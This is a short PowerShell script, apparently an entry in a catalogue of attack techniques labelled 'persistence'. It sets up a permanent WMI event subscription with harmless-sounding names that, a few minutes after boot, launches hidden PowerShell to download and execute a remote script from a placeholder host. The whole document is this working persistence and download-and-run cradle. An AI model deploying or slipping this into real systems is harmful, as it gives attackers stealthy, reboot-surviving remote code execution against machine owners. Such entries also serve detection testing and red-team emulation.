# description: Creates a permanent WMI event subscription that runs a download cradle after boot.
# family: persistence
$filterArgs = @{
    Name           = 'SysHealthFilter'
    EventNameSpace = 'root\cimv2'
    QueryLanguage  = 'WQL'
    Query          = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"
}
$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments $filterArgs
$consumerArgs = @{
    Name                = 'SysHealthConsumer'
    CommandLineTemplate = "powershell.exe -NoP -W Hidden -C `"iex (irm https://example.com/p.ps1)`""
}
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments $consumerArgs
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer }
